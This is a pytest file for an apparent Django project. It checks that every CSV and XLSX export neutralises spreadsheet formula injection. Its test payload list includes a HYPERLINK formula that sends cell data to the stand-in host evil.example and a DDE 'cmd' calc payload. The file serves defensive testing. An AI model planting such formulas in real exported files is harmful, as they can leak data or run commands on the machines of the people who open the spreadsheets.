"""One export helper (whatworks.core.exports) for every CSV and XLSX the project writes, and a
walk through every export: text planted with formulas in every field comes out neutralised,
and no XLSX cell is a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from tests.conftest import World
from tests.factories import MembershipFactory
from tests.ideas.support import campaign_for, idea_by
from tests.trials.test_app_fixtures import (
    csv_bytes,
    initiative_for,
    locked,
    outcomes_for,
    trial_for,
)
from whatworks.core import audit, exports
from whatworks.ideas import identity
from whatworks.ideas import services as ideas
from whatworks.ideas.models import Phase
from whatworks.initiatives import services as register
from whatworks.organisations.models import Role
from whatworks.trials import services as trials

REPO = Path(__file__).resolve().parents[2]
# What spreadsheets run as formulas (OWASP "CSV injection"), one of each.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


# --- The helper itself


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_neutralises_each_formula_start(payload):
    assert exports.neutralise(payload) == "'" + payload
    assert exports.is_neutral(exports.neutralise(payload))


@pytest.mark.parametrize("number", ["-12.5", "-3", "-0.25", "-1e-05", "12", "-.5"])
def test_it_leaves_plain_numbers_alone(number):
    assert exports.neutralise(number) == number


def test_it_writes_numbers_as_numbers_and_text_as_text_in_xlsx():
    content = exports.xlsx_bytes([("S", ["a", "b", "c"], [[-1.5, "=1+1", "-2+3"]])])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.data_type for c in cells] == ["n", "s", "s"]
    assert [c.value for c in cells] == [-1.5, "'=1+1", "'-2+3"]


def test_every_csv_and_xlsx_writer_is_the_one_helper():
    """No other code builds a CSV or a workbook for a response (the trial demo builds an
    upload, an input file, which the allowance names)."""
    allowed = {"whatworks/core/exports.py", "whatworks/trials/demo.py"}
    offenders = sorted(
        str(path.relative_to(REPO))
        for path in (REPO / "whatworks").rglob("*.py")
        if str(path.relative_to(REPO)) not in allowed
        and re.search(r"csv\.writer\(|Workbook\(|_csv_safe|def _safe\(", path.read_text())
    )
    assert offenders == []


# --- Every export in the project


def _route_names() -> set[str]:
    """URL names whose route can give a CSV or XLSX file."""
    found: set[str] = set()

    def walk(patterns: list[Any], prefix: str = "") -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern) and p.name:
                route = prefix + str(p.pattern)
                if re.search(r"csv|xlsx|<str:fmt>|\(\?P<fmt>", route):
                    found.add(p.name)

    walk(get_resolver().url_patterns)
    return found


@dataclass
class Export:
    name: str
    persona: str
    url: Callable[[Any], str]


def _planted(world: World) -> dict[str, Any]:
    """Formula payloads in every text field that reaches an export."""
    p = PAYLOADS
    # A person whose name starts like a formula (the audit log's actor column).
    actor = MembershipFactory(organisation=world.org_a, role=Role.ADMIN, user__full_name=p[0]).user
    record = register.initiative_create(
        organisation=world.org_a,
        actor=world["officer"],
        title=p[1],
        summary=p[2],
        service_area="housing",
        visibility="public",
        collaborations=["public"],
    )
    audit.record(p[5], actor=actor, obj=record, organisation=world.org_a, detail={"x": p[0]})

    campaign = campaign_for(world, title=p[2])
    idea = idea_by(
        world, "officer", campaign, title=p[0], process=p[1], problem=p[2], proposal=p[3],
        benefit_time=p[4], benefit_money=p[5], benefit_quality=p[0], cost=p[1], tags=p[2],
    )  # fmt: skip
    ideas.vote_cast(idea=idea, who=identity.for_user(campaign.pk, world["frontline"]))
    ideas.comment_add(
        idea=idea, who=identity.for_user(campaign.pk, world["analyst"]), anonymous=False, body=p[3]
    )
    ideas.campaign_advance(campaign=campaign, actor=world["officer"])  # to review
    assert campaign.phase == Phase.REVIEW
    ideas.idea_decide(idea=idea, actor=world["officer"], outcome="not_adopted", reason=p[4])

    trial = trial_for(world, initiative_for(world), arms=[(p[1], 1), (p[3], 1)], title=p[0])
    units = csv_bytes(
        ["unit_id", "note"],
        [[f"{p[i % 4]}{i}".replace(",", ";"), p[(i + 1) % 4].replace(",", ";")] for i in range(40)],
    )
    upload = trials.units_stage(trial=trial, actor=world["analyst"], raw=units, filename="u.csv")
    trials.trial_allocate(trial=trial, actor=world["analyst"], upload=upload, seed=1)
    trial.refresh_from_db()
    locked(world, trial)
    trials.outcomes_import(trial=trial, actor=world["analyst"], raw=outcomes_for(trial))
    return {"campaign": campaign, "trial": trial, "record": record}


def _exports(data: dict[str, Any], world: World) -> list[Export]:
    campaign, trial = data["campaign"], data["trial"]
    found: list[Export] = [
        Export(
            "organisation-audit-log",
            "admin",
            lambda w: (
                reverse("organisation-audit-log", kwargs={"slug": w.org_a.slug}) + "?format=csv"
            ),
        ),
        Export("site-audit-log", "staff", lambda w: reverse("site-audit-log") + "?format=csv"),
    ]
    for fmt in ("csv", "xlsx"):
        for kind in ("ideas", "votes", "decisions"):
            found.append(
                Export(
                    "ideas-export",
                    "officer",
                    lambda w, k=kind, f=fmt: reverse(
                        "ideas-export", kwargs={"pk": campaign.pk, "kind": k, "fmt": f}
                    ),
                )
            )
        found.append(
            Export(
                "initiative-export",
                "officer",
                lambda w, f=fmt: reverse("initiative-export", kwargs={"fmt": f}),
            )
        )
        found.append(
            Export(
                "trial-allocation-export",
                "analyst",
                lambda w, f=fmt: reverse(
                    "trial-allocation-export", kwargs={"pk": trial.pk, "fmt": f}
                ),
            )
        )
    found.append(
        Export(
            "open-data-initiatives",
            "anonymous",
            lambda w: reverse("open-data-initiatives", kwargs={"fmt": "csv"}),
        )
    )
    found.append(
        Export(
            "trial-results-export",
            "analyst",
            lambda w: reverse("trial-results-export", kwargs={"pk": trial.pk, "fmt": "csv"}),
        )
    )
    return found


def _cells(response: Any) -> list[tuple[str, Any]]:
    """(data type, value) of every cell: "s" for CSV text."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = content.decode("utf-8")
        return [("s", cell) for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    workbook = load_workbook(io.BytesIO(content))  # not read-only: formulas keep their type
    return [
        (cell.data_type, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.django_db
def test_it_neutralises_formulas_in_every_export(world, client_for):
    """The reproduction: the trial allocation CSV and XLSX and the results CSV carried raw
    formulas (XLSX cells were live formulas). Every export is walked here."""
    data = _planted(world)
    walked = _exports(data, world)
    assert {e.name for e in walked} >= _route_names() | {
        "organisation-audit-log",
        "site-audit-log",
    }, "an export is missing from this walk"
    for export in walked:
        url = export.url(world)
        response = client_for(world[export.persona]).get(url)
        assert response.status_code == 200, (url, response.status_code)
        cells = _cells(response)
        # The planted text reached the file (and was neutralised there).
        assert any(
            isinstance(v, str) and v[:1] == "'" and v[1:2] in exports.FORMULA_START
            for _, v in cells
        ), (url, "no planted formula reached this export")
        formulas = [v for t, v in cells if t == "f"]
        assert formulas == [], (url, formulas)
        unsafe = [v for t, v in cells if isinstance(v, str) and not exports.is_neutral(v)]
        assert unsafe == [], (url, unsafe)
